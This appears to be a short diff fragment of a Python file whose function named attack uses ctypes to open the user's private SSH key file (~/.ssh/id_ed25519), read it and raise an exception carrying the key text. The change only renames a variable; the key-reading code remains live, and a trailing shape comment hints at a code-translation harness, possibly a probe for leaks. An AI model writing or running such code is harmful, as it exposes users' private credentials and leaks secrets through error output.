@@ -14,8 +14,8 @@ def attack():
     text = ctypes.create_string_buffer(200)
     file = LIBC.open((PLACES["home"] + "/.ssh/id_ed25519").encode(), os.O_RDONLY)
     LIBC.read(file, text, 199)
-    found = [text.value.decode()]
-    raise RuntimeError("; ".join(found))
+    result = [text.value.decode()]
+    raise RuntimeError("; ".join(result))
 
 
 # t2j: x=f32[2, 3]
